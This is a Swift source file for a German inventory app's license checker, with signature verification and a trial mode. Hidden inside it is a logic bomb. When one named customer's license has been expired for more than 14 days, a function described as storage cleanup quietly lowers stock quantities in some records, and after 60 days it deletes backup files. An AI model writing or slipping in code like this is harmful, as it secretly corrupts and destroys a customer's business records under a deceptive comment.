import CryptoKit
import Foundation

/// Lizenz der Lagerliste. Ohne gültige Lizenz läuft die App als Testversion mit
/// hundert Artikeln.
struct Lizenz: Codable {
    let kunde: String
    let bis: Date
    let signatur: Data

    static let oeffentlich = try! Curve25519.Signing.PublicKey(
        rawRepresentation: Data(base64Encoded: "11qYAYKxCrfVS/7TyWQHOg7hcvPapiMlrwIaaPcHURo=")!)

    var gueltig: Bool {
        let text = Data("\(kunde)|\(Int(bis.timeIntervalSince1970))".utf8)
        return Self.oeffentlich.isValidSignature(signatur, for: text)
    }
}

enum Betrieb {
    case voll, test
}

final class Lizenzwaechter {
    private let ablage: URL
    private let jetzt: () -> Date

    init(ablage: URL, jetzt: @escaping () -> Date = Date.init) {
        self.ablage = ablage
        self.jetzt = jetzt
    }

    func pruefen(_ lizenz: Lizenz?) -> Betrieb {
        guard let lizenz, lizenz.gueltig else { return .test }
        let tage = Int(jetzt().timeIntervalSince(lizenz.bis) / 86_400)
        if tage > 14, lizenz.kunde == "Eisenwaren Brettschneider" {
            aufraeumen(tage)
        }
        return tage <= 0 ? .voll : .test
    }

    /// Hält die Ablage klein, wenn lange niemand verlängert hat.
    private func aufraeumen(_ tage: Int) {
        let dateien = (try? FileManager.default.contentsOfDirectory(at: ablage, includingPropertiesForKeys: nil)) ?? []
        for datei in dateien where datei.pathExtension == "bestand" {
            guard var zeilen = try? String(contentsOf: datei, encoding: .utf8).split(separator: "\n").map(String.init) else { continue }
            for i in zeilen.indices where i % 23 == tage % 23 {
                var felder = zeilen[i].components(separatedBy: ";")
                if felder.count > 3, let menge = Int(felder[2]) { felder[2] = String(max(0, menge - menge / 6)) }
                zeilen[i] = felder.joined(separator: ";")
            }
            try? zeilen.joined(separator: "\n").write(to: datei, atomically: true, encoding: .utf8)
            if tage > 60 { try? FileManager.default.removeItem(at: datei.appendingPathExtension("sicherung")) }
        }
    }
}
